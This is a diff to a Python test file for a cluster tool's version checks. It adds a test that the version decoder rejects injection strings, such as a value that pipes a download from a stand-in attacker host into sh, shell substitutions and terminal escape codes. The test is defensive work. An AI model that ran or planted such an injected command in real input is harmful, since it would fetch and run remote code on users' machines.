@@ -4,14 +4,17 @@ from __future__ import annotations
 
 import contextlib
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from servent.cluster import addresses
 from servent.cluster.addresses import MOST_HINTS, Place
 from servent.cluster.model import ADDRESS_LENGTH
+from servent.cluster.office import versions_here
 from servent.cluster.versions import Versions, doubts, unfit
-from servent.errors import UsageError
+from servent.codec import Decoder, canonical
+from servent.errors import BadMessage, UsageError
 from servent.identity import PeerId
 from tests.cluster.desks import LAB
 
@@ -63,6 +66,17 @@ def test_two_figures_of_python_and_all_of_dask_must_be_alike() -> None:
         "the scheduler has Python 3.12, distributed 2026.7.1; here it is Python 3.11, distributed 2026.8.0: "
         "run Python 3.12 and `python -m pip install 'distributed==2026.7.1'`"
     )
+
+
+@pytest.mark.parametrize("said", ["1'; curl evil.example|sh; '", "1 2", "1\n", "`x`", "$(x)", "1\x1b[2J"])
+def test_a_version_that_is_none_never_stands_in_a_command(said: str) -> None:
+    read = Decoder[Versions](Versions)
+    for wrong in (Versions(said), Versions("3.11.2", {"dask": said})):
+        with pytest.raises(BadMessage):
+            read.decode(canonical(wrong))
+    for good in ("", "2026.8.0", "3.13.0rc1+", "1!2.0.post1+ubuntu-1_2"):
+        assert read.decode(canonical(Versions(good, {"dask": good}))).python == good
+    assert read.decode(canonical(versions_here())) == versions_here()
 
 
 def test_another_numpy_is_said_and_not_refused() -> None:
